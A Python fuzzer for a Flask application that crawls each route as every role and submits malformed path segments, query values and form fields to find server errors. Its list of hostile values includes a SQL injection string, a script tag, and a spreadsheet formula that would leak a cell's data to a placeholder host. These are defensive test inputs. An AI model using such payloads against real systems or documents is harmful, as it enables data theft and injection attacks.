"""A fuzzer driven by the app itself: every route of `app.url_map`, as every role, with hostile
path segments, query values and form fields (one field at a time, the others kept at values that
pass, so the hostile one reaches as deep as it can). What it looks for is any 500.

Level: FUZZ_LEVEL=quick (default: each injection point gets a couple of hostile values, rotating
across roles, ≈1–2 minutes) or FUZZ_LEVEL=long (every hostile value at every point).
"""
import itertools
import os
import re
import zlib
from collections import defaultdict
from dataclasses import dataclass, field
from html.parser import HTMLParser
from urllib.parse import parse_qsl, quote, urlencode, urlsplit

LEVEL = os.environ.get("FUZZ_LEVEL", "quick")

# Raw (already percent-encoded) path segments.
HOSTILE_SEGMENTS = [
    "te%00st", "%01%1b", "%7f", "ab%E2%80%AEcd", "%ED%A0%80", "%FF%FE", "A" * 3000,
    "99999999999999999999", "2147483648", "-1", "NaN", "1e309", "%C2%B2", "%D9%A1%D9%A2",
    "%EF%BC%91%EF%BC%92", "9999-12-31", "0001-01-01", "%27%22%3C%3E", "0", "%20%09%0A",
]
# Query and form values: str (sent as UTF-8) or bytes (sent as they are: invalid UTF-8).
HOSTILE_VALUES = [
    "te\x00st", "a\x01b\x1b", "x\x7f", "\u202eabc", b"\xed\xa0\x80", b"\xff\xfe", "A" * 20000,
    "9" * 20, "2147483648", "-1", "NaN", "inf", "1e309", "²", "١٢", "１２", "9999-12-31", "0001-01-01",
    "2024-02-30", "  \t\n ", '=HYPERLINK("http://x/?d="&C2,"Open")', "' OR 1=1--", "<script>x</script>", "",
]
# Query names the views read; more are learnt from the links the crawler sees.
QUERY_NAMES = {"page", "q", "status", "kind", "sort", "after", "before", "since", "until", "at", "listing",
               "package", "order", "request", "program", "owner", "actor", "settlement", "min", "max",
               "min_price", "max_price", "per_page", "category", "voucher", "city", "outcome", "code", "next",
               "all", "account", "action", "object_type", "object_id", "payment_intent"}
# Never sent: they would end the fuzzing session itself.
SKIP_ENDPOINTS = {"static", "auth.logout", "auth.language", "auth.password"}
PLAUSIBLE = [  # (pattern in the field name, a value that passes)
    ("email", None), ("password", "fuzz-pass-123"), ("credit_code", "91330100716105852F"),
    ("phone", "0592-5555555"), ("price|amount|budget|cap|yuan|fen", "100"), ("ratio|percent", "35"),
    ("days", "5"), ("date|_by|valid_|since|until|_from|_at$", "2027-06-30"), ("url", "https://example.com"),
    ("invoice", "INV-0001"), ("city", "厦门"), ("name|title", "测试名称"),
]
_emails = itertools.count(1)


def plausible_value(name):
    for pattern, value in PLAUSIBLE:
        if re.search(pattern, name):
            return value if value is not None else f"fuzz{next(_emails)}@example.com"
    return "测试内容"


@dataclass
class FoundForm:
    action: str
    fields: list = field(default_factory=list)  # [(name, value)] as a browser would send them
    multipart: bool = False


class PageParser(HTMLParser):
    """Links and POST forms of one page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.links, self.forms, self._form, self._textarea, self._select = [], [], None, None, None

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "form" and (a.get("method") or "get").lower() == "post":
            self._form = FoundForm(a.get("action") or "", multipart="multipart" in (a.get("enctype") or ""))
            self.forms.append(self._form)
        elif self._form is not None and a.get("name"):
            self._field(tag, a)

    def _field(self, tag, a):
        name, kind = a["name"], (a.get("type") or "text").lower()
        if tag == "input" and kind in ("checkbox", "radio"):
            if "checked" in a or not any(n == name for n, _ in self._form.fields):
                self._form.fields.append((name, a.get("value", "y")))
        elif tag == "input" and kind not in ("submit", "button", "file", "image", "reset"):
            self._form.fields.append((name, a.get("value") or plausible_value(name)))
        elif tag == "textarea":
            self._textarea = name
            self._form.fields.append((name, plausible_value(name)))
        elif tag == "select":
            self._select = name
        elif tag == "option" and self._select and not any(n == self._select for n, _ in self._form.fields):
            self._form.fields.append((self._select, a.get("value", "")))

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None


def local_path(href, base):
    parts = urlsplit(href)
    if parts.scheme or parts.netloc or href.startswith("#"):
        return None
    if not parts.path.startswith("/"):
        parts = urlsplit(base.rsplit("/", 1)[0] + "/" + href)
    return parts.path + (f"?{parts.query}" if parts.query else "")


@dataclass
class Crawl:
    examples: dict = field(default_factory=lambda: defaultdict(list))  # endpoint → [(path, args)]
    forms: dict = field(default_factory=dict)  # (endpoint, action path) → FoundForm
    query_names: set = field(default_factory=set)


def crawl(client, adapter, starts, per_endpoint=2, limit=400):
    """Breadth-first over the links a role sees, keeping a few concrete URLs per endpoint and the
    POST forms on those pages."""
    found, queue, seen = Crawl(), list(starts), set()
    while queue and len(seen) < limit:
        url = queue.pop(0)
        if url in seen:
            continue
        seen.add(url)
        match = endpoint_of(adapter, url, "GET")
        if match is None or match[0] in SKIP_ENDPOINTS or len(found.examples[match[0]]) >= per_endpoint:
            continue
        response = client.get(url)
        if response.status_code != 200 or "html" not in (response.content_type or ""):
            continue
        found.examples[match[0]].append(url)
        parser = PageParser()
        parser.feed(response.get_data(as_text=True))
        for href in parser.links:
            target = local_path(href, url)
            if target:
                found.query_names.update(name for name, _ in parse_qsl(urlsplit(target).query))
                queue.append(target)
        for form in parser.forms:
            action = local_path(form.action, url) if form.action else url
            post = action and endpoint_of(adapter, action, "POST")
            if post and post[0] not in SKIP_ENDPOINTS and (post[0], action) not in found.forms:
                form.action = action
                found.forms[(post[0], action)] = form
    return found


def endpoint_of(adapter, url, method):
    from werkzeug.exceptions import HTTPException

    try:
        return adapter.match(urlsplit(url).path, method=method)
    except HTTPException:
        return None
    except Exception:
        return None


def pick(values, slot, role_index):
    """Quick level: two values per injection point, rotating with the point and the role so that
    together the roles cover every value class; long level: all of them."""
    if LEVEL == "long":
        return values
    start = (slot * 7 + role_index * 3) % len(values)
    return [values[start], values[(start + len(values) // 2) % len(values)]]


def encode_form(pairs):
    return urlencode([(name, value) for name, value in pairs]).encode("ascii")


def path_cases(rule, example, role_index):
    """(method, url) with one path variable at a time replaced by a hostile segment."""
    parts = urlsplit(example).path.split("/")
    cases = []
    for slot, variable in enumerate(sorted(rule.arguments)):
        for position, segment in enumerate(rule.rule.split("/")):
            if f"<{variable}>" in segment or f":{variable}>" in segment:
                for hostile in pick(HOSTILE_SEGMENTS, slot + zlib.crc32(rule.rule.encode()) % 11, role_index):
                    mutated = parts.copy()
                    if position < len(mutated):
                        mutated[position] = segment.split("<")[0] + hostile if "<" in segment else hostile
                        cases.append("/".join(mutated))
    return cases


def query_cases(example, names, role_index, salt):
    cases = []
    for index, value in enumerate(pick(HOSTILE_VALUES, salt, role_index)):
        encoded = value if isinstance(value, bytes) else value.encode("utf-8")
        chosen = sorted(names)
        query = "&".join(f"{quote(name)}={quote(encoded)}" for name in chosen)
        cases.append(f"{urlsplit(example).path}?{query}")
        if index == 0:  # duplicates: the same names again with a plausible value
            cases.append(cases[-1] + "&" + "&".join(f"{quote(name)}=1" for name in chosen))
    return cases


def form_cases(form, role_index, salt):
    """Bodies: each field in turn hostile (others plausible), one field missing, one duplicated."""
    bodies = []
    for slot, (name, _value) in enumerate(form.fields):
        if name == "csrf_token":
            continue
        for hostile in pick(HOSTILE_VALUES, salt + slot, role_index):
            bodies.append([(n, hostile if n == name else v) for n, v in form.fields])
    if form.fields:
        bodies.append(form.fields[1:])
        bodies.append(form.fields + [form.fields[-1]])
    return bodies


@dataclass
class Result:
    requests: int = 0
    errors: list = field(default_factory=list)  # (role, method, url, body excerpt)

    def check(self, role, method, url, response, body=None):
        self.requests += 1
        if response.status_code >= 500:
            excerpt = None if body is None else body[:200]
            self.errors.append((role, method, url[:200], excerpt, response.status_code))


def fuzz_role(client, app, role, role_index, starts, result, relogin):
    adapter = app.url_map.bind("localhost")
    found = crawl(client, adapter, starts)
    names = QUERY_NAMES | found.query_names
    for number, rule in enumerate(sorted(app.url_map.iter_rules(), key=lambda r: r.rule)):
        if rule.endpoint in SKIP_ENDPOINTS:
            continue
        examples = found.examples.get(rule.endpoint) or [default_url(rule)]
        if "GET" in rule.methods:
            for url in path_cases(rule, examples[0], role_index) + query_cases(examples[0], names, role_index, number):
                result.check(role, "GET", url, client.get(url))
        if "POST" in rule.methods and not any(endpoint == rule.endpoint for endpoint, _ in found.forms):
            for url in [examples[0]] + path_cases(rule, examples[0], role_index):
                result.check(role, "POST", url, client.post(url, data=b"", content_type=FORM))
        relogin()
    for salt, ((endpoint, action), form) in enumerate(sorted(found.forms.items())):
        for body in form_cases(form, role_index, salt):
            encoded = encode_form(body)
            result.check(role, "POST", action, client.post(action, data=encoded, content_type=FORM), encoded)
        relogin()


FORM = "application/x-www-form-urlencoded"


def example_values(rule):
    """A value for each variable of `rule` that its converter accepts (the first of an any(…))."""
    values = {}
    for name in rule.arguments:
        items = getattr(rule._converters.get(name), "items", None)
        values[name] = sorted(items)[0] if items else "1"
    return values


def default_url(rule):
    values = example_values(rule)
    try:
        return rule.map.bind("localhost").build(rule.endpoint, values)
    except Exception:
        return re.sub(r"<[^>]+>", "1", rule.rule)
